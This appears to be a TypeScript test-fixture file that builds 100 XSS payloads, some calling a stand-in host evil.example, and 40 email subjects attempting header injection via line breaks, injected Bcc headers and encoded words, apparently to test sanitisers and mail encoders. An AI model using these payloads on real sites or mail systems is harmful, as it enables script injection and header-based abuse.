/** Markup that must never be interpreted, and lines that must never become headers. */

const scripts = ["alert(1)", "fetch('//evil.example')", "document.location='//evil.example'", "top.x=1"];
const wrap: ((script: string) => string)[] = [
  (s) => `<script>${s}</script>`,
  (s) => `<ScRiPt >${s}</ScRiPt>`,
  (s) => `<script src=//evil.example/x.js onload="${s}"></script>`,
  (s) => `"><script>${s}</script>`,
  (s) => `'><script>${s}</script>`,
  (s) => `</title><script>${s}</script>`,
  (s) => `</style><script>${s}</script>`,
  (s) => `</textarea><img src=x onerror=${s}>`,
  (s) => `<img src=x onerror="${s}">`,
  (s) => `<img src=\`x\` onerror=\`${s}\`>`,
  (s) => `<svg onload=${s}>`,
  (s) => `<svg><animate onbegin=${s} attributeName=x>`,
  (s) => `<math><a xlink:href="javascript:${s}">x`,
  (s) => `<a href="javascript:${s}">x</a>`,
  (s) => `<a href="java\tscript:${s}">x</a>`,
  (s) => `<iframe srcdoc="<script>${s}</script>">`,
  (s) => `<body onload=${s}>`,
  (s) => `<details open ontoggle=${s}>`,
  (s) => `<video><source onerror="${s}">`,
  (s) => `<!--><img src=x onerror=${s}>-->`,
  (s) => `<![CDATA[<script>${s}</script>]]>`,
  (s) => `<style>@import "//evil.example/x.css";</style>${s}`,
  (s) => `<meta http-equiv="refresh" content="0;javascript:${s}">`,
  (s) => `&lt;script&gt;${s}&lt;/script&gt;<b onmouseover=${s}>`,
  (s) => `<<script>${s}//<</script>`,
];

/** 100 payloads. */
export const hostileMarkup: string[] = wrap.flatMap((make) => scripts.map(make));

const breaks = [
  "\r\n",
  "\n",
  "\r",
  "\n\r",
  "\v",
  "\f",
  "\u0085",
  "\u2028",
  "\u2029",
  "\0",
  "\u001b",
  "\u007f",
  "\t",
];
const headers = ["Bcc: victim@example.com", "Content-Type: text/html\r\n\r\n<b>", "X: y"];

/** 40 subjects that try to end their header line, openly or in encoded words. */
export const hostileSubjects: string[] = [
  ...breaks.flatMap((br) => headers.slice(0, 2).map((header) => `Hello${br}${header}`)),
  ...["\r\n", "\n", "\u2028", "\0"].map((br) => `Hello${br}`),
  ...["\r\n", "\n", "\u2029"].map((br) => `${br}Hello`),
  "\n.\r\nMAIL FROM:<a@example.com>",
  "Hello\r\n\r\n<script>alert(1)</script>",
  "=?utf-8?B?SGVsbG8NCkJjYzogdmljdGltQGV4YW1wbGUuY29t?=",
  "=?utf-8?Q?Hello=0D=0ABcc:_victim@example.com?=",
  "Hello =?iso-8859-1?q?=0ABcc: x?= there",
  "=?UTF-8?b?DQo=?=",
  "a\u0000b\u0001c",
];
